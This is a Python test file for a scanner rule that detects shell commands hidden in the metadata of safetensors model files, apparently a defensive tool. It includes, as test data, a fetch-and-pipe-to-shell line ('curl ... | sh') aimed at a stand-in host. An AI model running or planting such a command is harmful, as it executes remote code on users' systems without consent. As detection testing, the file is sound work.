"""Rule metadata-code: a text in the metadata of a model is a command or code."""

from __future__ import annotations

from inspect_samples import found, safetensors, told

from watchword.inspect.facts import Verdict

HEADER = b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"__metadata__":{"%b":"%b"}}'


def test_a_command_in_metadata_is_suspicious() -> None:
    """A command where a name should stand is told."""
    header = HEADER % (b"setup", b"curl -s https://a.example/x | sh")
    assert ("metadata-code", Verdict.SUSPICIOUS) in told(safetensors(header, bytes(8)), "m.safetensors")


def test_metadata_that_describes_is_silent() -> None:
    """A description that speaks of a command, and an address of a source, are ordinary."""
    shown = HEADER % (b"description", b"curl -s https://a.example/x | sh")
    source = HEADER % (b"source", b"https://a.example/model")
    assert found(safetensors(shown, bytes(8)), "m.safetensors") == set()
    assert found(safetensors(source, bytes(8)), "m.safetensors") == set()
